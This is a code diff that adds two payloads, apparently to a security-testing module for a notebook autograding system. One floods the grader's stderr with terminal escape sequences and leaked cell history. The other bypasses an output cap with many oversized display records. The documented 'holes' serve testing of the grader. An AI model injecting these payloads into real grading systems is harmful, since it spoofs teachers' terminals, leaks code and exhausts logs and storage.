@@ -445,3 +445,29 @@ def snoop_more():
 
 def deaf_sleeper():
     return insert_after(release(LAYERS), "setup", DEAF_SLEEPER)
+
+
+# HOLE 8. The kernel's stderr is the grader's (SandboxKernelManager only sends stdout to /dev/null): whatever it
+# writes to fd 2 reaches the teacher's terminal (`grade`) or the batch's per-student log (`grade-all`), unbounded
+# and raw, escape sequences included; and the log's tail becomes the record's reason when the grading process
+# crashes ("the grader crashed (exit N): <tail>").
+STDERR = '''
+import os
+os.write(2, b"\\x1b]0;PWNED\\x07KERNEL-STDERR " + "\\n".join(In)[-400:].encode() + b"\\n")
+for _ in range({mb}):
+    os.write(2, b"e" * 2**20)
+'''
+
+
+def stderr_flood(mb=50):
+    return append(release(LAYERS), STDERR.format(mb=mb))
+
+
+# HOLE 3c. Probe records are exempt from the output cap one by one (each up to 2 * MAX_BYTES), and there is no
+# count: a learner cell can show any number of them; they stay in the autograded notebook.
+MANY_RECORDS = '''
+from IPython.display import display
+pad = {{f"k{{i}}": ["a" * 1999] * 500 for i in range(7)}}  # about 7 MB of JSON, under the 8 MB a record may have
+for _ in range({n}):
+    display({{"application/vnd.wavenet.probe.v1+json": {{"v": 1, "test": "tanh", "data": pad}}}}, raw=True)
+'''
